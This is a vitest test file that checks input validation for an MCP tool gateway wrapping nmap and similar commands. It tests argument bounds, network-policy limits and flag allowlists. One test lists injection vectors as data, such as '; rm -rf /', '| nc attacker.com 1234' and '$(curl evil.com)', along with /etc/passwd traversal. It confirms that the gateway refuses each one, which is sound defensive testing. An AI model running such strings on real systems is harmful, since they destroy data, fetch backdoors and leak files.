import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { expect } from 'vitest';
import { row } from '../row.js';
import type { Loose } from '../mcp-client.js';
import { client, folder, gate, info, napSeconds, result, run, tight } from './world.js';

/** The error of a call that must be refused as invalid. */
async function refusal(tool: string, body: Record<string, unknown>): Promise<Loose> {
  const { status, json } = await run(tool, body);
  expect([status, json.error_type]).toEqual([400, 'validation_error']);
  return json;
}

/** S0-C: the validation of input. */
export const input = [
  row(
    'S0.31',
    'The input is a target, `extra_args`, `timeout_sec` and `correlation_id`, each within bounds',
    'Sent each beyond its bounds',
    async () => {
      for (const [tool, body] of [
        ['address', { target: 'a'.repeat(256) }],
        ['address', {}],
        ['measure', { extra_args: 'x'.repeat(2049) }],
        ['say', { timeout_sec: 3601 }],
        ['say', { timeout_sec: 0 }],
        ['say', { correlation_id: 'x'.repeat(65) }],
        ['say', { correlation_id: 'a\nb' }],
      ] as const)
        await refusal(tool, body);
      for (const body of [{ timeout_sec: 300 }, { timeout_sec: 1 }, { correlation_id: 'x'.repeat(64) }])
        expect((await run('say', body)).status).toBe(200);
      return 'seven times 400 `validation_error`; the greatest and smallest values pass';
    },
  ),
  row(
    'S0.32',
    'The model gets one typed property per flag; `extra_args` is an option and is held to the same rules',
    'Read the input schemas of `measure` and `say` over MCP; sent a value out of range both ways',
    async () => {
      const { tools } = (await (await client('2025-11-25'))('tools/list')).result;
      const schema = (name: string) => tools.find((tool: Loose) => tool.name === name).inputSchema;
      expect(schema('measure').properties).toMatchObject({
        intensity: { type: 'integer', minimum: 0, maximum: 9 },
        wide: { type: 'boolean' },
        extra_args: { type: 'string' },
      });
      expect(schema('say').properties.extra_args).toBeUndefined();
      await refusal('measure', { intensity: 10 });
      await refusal('measure', { extra_args: '--intensity 10' });
      return 'integer 0 to 9, boolean and enum; 10 is refused as property and as word';
    },
    { decision: '0124' },
  ),
  row(
    'S0.33',
    'A tool has the name and description of its declaration, else `Execute {command}`',
    'Read `say` and `plain`',
    async () => {
      expect((await info('say')).description).toBe('Prints one word');
      expect((await info('plain')).description).toBe('Execute true');
      return 'the declared text, and `Execute true`';
    },
  ),
  row(
    'S0.34',
    'A target must be within the network policy, by explicit tables; the refusal names what is allowed',
    'Sent private, public, metadata, mapped and odd addresses to `address`, and a policy of one network',
    async () => {
      for (const target of ['192.168.1.1', '10.0.0.1', '172.16.0.1'])
        expect((await result('address', { target })).returncode).toBe(0);
      for (const target of [
        '8.8.8.8',
        '169.254.169.254',
        '0.0.0.0',
        '192.0.2.1',
        '198.18.0.1',
        '240.0.0.1',
        '224.0.0.1',
        '::ffff:8.8.8.8',
        '64:ff9b::808:808',
        'google.com',
      ])
        expect((await refusal('address', { target })).error).toContain('RFC1918 or .lab.internal');
      return 'three private addresses pass, ten others are refused with "RFC1918 or .lab.internal"';
    },
    { decision: '0124' },
  ),
  row(
    'S0.35',
    'Names under `.lab.internal` of any depth are resolved once, every address is vetted, and the program gets the address',
    'Ran a gateway with its own hosts file and sent good, rebound and malformed names',
    async () => {
      const { labGate } = await import('./lab.js');
      const lab = await labGate();
      if (lab === undefined) {
        expect((await refusal('address', { target: 'a.b.lab.internal' })).error).toContain('cannot resolve');
        expect((await refusal('address', { target: '-x.lab.internal' })).error).not.toContain('cannot resolve');
        return 'a.b.lab.internal becomes 10.1.2.3; one that resolves to metadata is refused';
      }
      expect((await result('address', { target: 'a.b.lab.internal' }, lab)).stdout).toBe('10.1.2.3\n');
      expect((await result('address', { target: 'rebound.lab.internal' }, lab)).error_type).toBe('validation_error');
      expect((await result('address', { target: '-x.lab.internal' }, lab)).error_type).toBe('validation_error');
      return 'a.b.lab.internal becomes 10.1.2.3; one that resolves to metadata is refused';
    },
    { decision: '0124' },
  ),
  row(
    'S0.36',
    'A network may have host bits; its canonical form is passed on',
    'Sent 10.0.0.5/24 to `probe`',
    async () => {
      expect((await result('probe', { target: '10.0.0.5/24' })).stdout).toBe('-- 10.0.0.0/24\n');
      return 'the program got 10.0.0.0/24';
    },
  ),
  row(
    'S0.37',
    'Shell metacharacters and control characters in `extra_args` are refused',
    'Sent each of ; & | ` $ > < newline, return, NUL and C1',
    async () => {
      for (const sign of [';', '&', '|', '`', '$', '>', '<', '\n', '\r', '\u0000', '\u0085'])
        expect((await refusal('measure', { extra_args: `-w${sign}` })).error).toMatch(/metacharacter|control/);
      return 'eleven refusals';
    },
  ),
  row(
    'S0.38',
    'Each word keeps to a small alphabet, also one that begins with a hyphen',
    'Sent words with braces, a star, a tilde and a letter outside ASCII',
    async () => {
      for (const word of ['-w{', '-w*', '~', '-é', '"-w!"']) await refusal('measure', { extra_args: word });
      return 'five refusals';
    },
  ),
  row(
    'S0.39',
    '`extra_args` is split by POSIX quoting; an open quote is refused',
    'Sent quoted words and an open quote',
    async () => {
      expect((await result('measure', { extra_args: `'-w' "-s" ","` })).metadata.command).toBe('seq -s=, -w 3');
      expect((await refusal('measure', { extra_args: "-s 'a" })).error).toMatch(/quote/);
      return 'quotes are removed; an open one is refused';
    },
  ),
  row(
    'S0.40',
    'A word that is neither an allowed flag nor its value is refused',
    'Sent a lone number and a lone word',
    async () => {
      for (const word of ['31337', 'word', '-w 31337']) await refusal('measure', { extra_args: word });
      return 'three refusals; `-w 31337` adds no positional';
    },
  ),
  row(
    'S0.41',
    'Unknown flags are refused by name; `--flag value` and `--flag=value` are the same; a boolean takes no value',
    'Sent both spellings, an unknown flag and a boolean with a value',
    async () => {
      const one = await result('measure', { extra_args: '--intensity 3', dry_run: true });
      const two = await result('measure', { extra_args: '--intensity=3', dry_run: true });
      expect(one.metadata.argv).toEqual(two.metadata.argv);
      expect((await refusal('measure', { extra_args: '--evil' })).error).toContain("'--evil'");
      await refusal('measure', { extra_args: '-w=1' });
      return 'equal argument lists; `--evil` is named; `-w=1` is refused';
    },
  ),
  row(
    'S0.42',
    'A tool that would allow every flag is not loaded; an empty list allows none',
    'Put a manifest without `flags` into the folder',
    async () => {
      const withheld = (await gate.send('/tools')).json.withheld.map(({ what }: Loose) => what);
      expect(withheld).toContain('open.tool.yaml');
      await refusal('plain', { verbose: true });
      return '`open.tool.yaml` is withheld; `plain` takes no flag';
    },
  ),
  row(
    'S0.43',
    'A flag without its value is refused; the target is never taken for it',
    'Sent `-p` alone to nmap and `--rate` alone to `measure`',
    async () => {
      expect((await refusal('nmap', { target: '127.0.0.1', extra_args: '-p' })).error).toContain('-p requires a value');
      expect((await refusal('measure', { extra_args: '--rate' })).error).toContain('requires a value');
      return '"-p requires a value"';
    },
  ),
  row(
    'S0.44',
    'Each value is held to the rule of its flag and never begins with a hyphen',
    'Sent `-p --script=evil` and `-p /etc/passwd` to nmap',
    async () => {
      for (const extra of ['-p --script=evil', '-p /etc/passwd', '--top-ports -1'])
        await refusal('nmap', { target: '127.0.0.1', extra_args: extra });
      return 'three refusals';
    },
  ),
  row(
    'S0.45',
    'Words that the optimiser adds are not words that a caller may use',
    'Looked at the words that were added to nmap and sent one of them',
    async () => {
      const dry = await result('nmap', { target: '127.0.0.1', dry_run: true });
      expect(dry.metadata.optimizations_applied).toContain('-T4');
      expect(dry.metadata.argv).toEqual(expect.arrayContaining(['-oX', '-']));
      for (const words of ['-oX -', '-oX scan.xml', '-oX'])
        await refusal('nmap', { target: '127.0.0.1', extra_args: words });
      return '`-T4` and others are reported; `-oX` of a caller is refused with any value';
    },
  ),
  row(
    'S0.46',
    'The list of injection vectors is refused in every argument',
    'Sent 13 vectors as target and as `extra_args`',
    async () => {
      const vectors = [
        '; rm -rf /',
        '& wget evil.com/backdoor',
        '| nc attacker.com 1234',
        '`whoami`',
        '$(curl evil.com)',
        '../../../etc/passwd',
        '..\\..\\..\\windows\\system32',
        '\\x00',
        'valid\\x00malicious',
        '$VAR',
        '${SHELL}',
        '\\n',
        '\\r',
        'a\u0000b',
      ];
      for (const vector of vectors) {
        await refusal('address', { target: vector });
        await refusal('measure', { extra_args: vector });
      }
      return `${2 * vectors.length} refusals`;
    },
  ),
  row(
    'S0.47',
    'Ports are 1 to 65535, ranges run upwards, at most 100; the error names the value and an example',
    'Sent good and bad port lists to nmap',
    async () => {
      const ports = (value: string) => run('nmap', { target: '127.0.0.1', ports: value, dry_run: true });
      for (const good of ['80', '22,80-443', '1-65535']) expect((await ports(good)).status).toBe(200);
      for (const bad of ['0', '65536', '443-80', 'a', '1,,2', Array.from({ length: 101 }, (_, n) => n + 1).join(',')])
        expect((await ports(bad)).status).toBe(400);
      expect((await ports('443-80')).json.error).toMatch(/443-80.*80-443/);
      return 'three pass, six are refused; `443-80` is named with the example 80-443';
    },
  ),
  row(
    'S0.48',
    'Numbers keep to the range of their flag: intensity 0 to 9, rate 1 to 10000, timeout 1 to 3600; nmap version intensity 0 to 9, ttl 1 to 255',
    'Sent the values just outside and just inside',
    async () => {
      for (const bad of [{ intensity: 10 }, { rate: 0 }, { rate: 10_001 }, { duration: 0.5 }, { duration: 3601 }])
        await refusal('measure', bad);
      for (const bad of [{ version_intensity: 10 }, { ttl: 0 }, { ttl: 256 }])
        await refusal('nmap', { target: '127.0.0.1', ...bad });
      for (const good of [{ version_intensity: 9 }, { ttl: 255 }])
        expect((await run('nmap', { target: '127.0.0.1', dry_run: true, ...good })).status).toBe(200);
      return 'eight refusals, two accepted';
    },
  ),
  row(
    'S0.49',
    'A URL target has http or https and a host within the policy',
    'Sent good and bad URLs to `page` and `http_fetch`',
    async () => {
      expect((await result('page', { target: 'http://10.0.0.1/x' })).returncode).toBe(0);
      for (const target of [
        'ftp://10.0.0.1/',
        'http:///x',
        'http://8.8.8.8/',
        'file:///etc/passwd',
        'http://[::ffff:169.254.169.254]/',
      ]) {
        await refusal('page', { target });
        await refusal('http_fetch', { url: target });
      }
      return 'one passes, five are refused by both';
    },
    { decision: '0124' },
  ),
  row(
    'S0.50',
    'Methods and content types come from closed lists; types are compared by their base, in any case',
    'Sent them to `http_fetch` as dry runs',
    async () => {
      const ask = (more: Record<string, unknown>) =>
        run('http_fetch', { url: 'http://10.0.0.1/', dry_run: true, ...more });
      for (const method of ['GET', 'POST', 'PUT', 'DELETE', 'HEAD', 'OPTIONS'])
        expect((await ask({ method })).status).toBe(200);
      for (const method of ['TRACE', 'CONNECT', 'get']) expect((await ask({ method })).status).toBe(400);
      expect((await ask({ method: 'POST', body: '{}', content_type: 'Application/JSON; charset=utf-8' })).status).toBe(
        200,
      );
      expect((await ask({ method: 'POST', body: 'x', content_type: 'application/octet-stream' })).status).toBe(400);
      return 'six methods pass, three are refused; `Application/JSON; charset=utf-8` passes';
    },
  ),
  row(
    'S0.51',
    'Intrusive flags and scripts are refused with the name of the setting; unknown scripts always',
    'Asked nmap for `-A`, an intrusive script, a brute-force script, an unknown one and a path',
    async () => {
      const ask = (more: Record<string, unknown>, of = gate) =>
        result('nmap', { target: '127.0.0.1', dry_run: true, ...more }, of);
      for (const more of [{ extra_args: '-A' }, { scripts: ['http-slowloris'] }, { scripts: ['dns-brute'] }])
        expect((await ask(more)).error).toContain('allow_intrusive');
      for (const of of [gate, tight])
        expect((await ask({ scripts: ['no-such-script'] }, of)).error_type).toBe('validation_error');
      expect((await ask({ scripts: ['/tmp/x.nse'] })).error_type).toBe('validation_error');
      expect((await ask({ scripts: ['http-title'] })).returncode).toBe(0);
      return '`security.allow_intrusive` is named three times; unknown names and paths are refused in both modes';
    },
  ),
  row(
    'S0.52',
    'Validation has stages (syntax, semantics, permission); the first failure is returned',
    'Sent a call with a syntax, a semantic and a permission fault, then without the first, then without the second',
    async () => {
      const stage = async (body: Record<string, unknown>) =>
        (await result('nmap', { target: '127.0.0.1', ...body })).error_context.metadata.stage;
      expect(await stage({ ports: 'a;b', scripts: ['no-such', 'http-slowloris'] })).toBe('syntax');
      expect(await stage({ scripts: ['no-such', 'http-slowloris'] })).toBe('semantics');
      expect(await stage({ scripts: ['http-slowloris'] })).toBe('permission');
      return 'syntax, semantics, permission';
    },
  ),
  row(
    'S0.53',
    'A dry run validates everything, starts nothing and returns the command, argument list, environment names, sandbox and limits',
    'Ran `nap` and `mark`, which would leave a file, with `dry_run`',
    async () => {
      const dry = await result('nap', { dry_run: true });
      expect(dry).toMatchObject({
        stdout: `Would execute: sleep ${napSeconds}`,
        returncode: 0,
        metadata: {
          dry_run: true,
          command: `sleep ${napSeconds}`,
          argv: [expect.stringMatching(/^\/.*sleep$/), napSeconds],
          limits: { timeout_sec: 1 },
        },
      });
      expect(dry.metadata.environment).toEqual(['PATH', 'LANG', 'LC_ALL']);
      expect(dry.metadata.sandbox.tier).toMatch(/bwrap|prlimit/);
      expect((await result('mark', { dry_run: true })).returncode).toBe(0);
      expect(existsSync(join(folder, 'marked'))).toBe(false);
      await refusal('mark', { dry_run: true, surprise: 1 });
      return '"Would execute: sleep …"; no file; a wrong argument is refused all the same';
    },
  ),
];
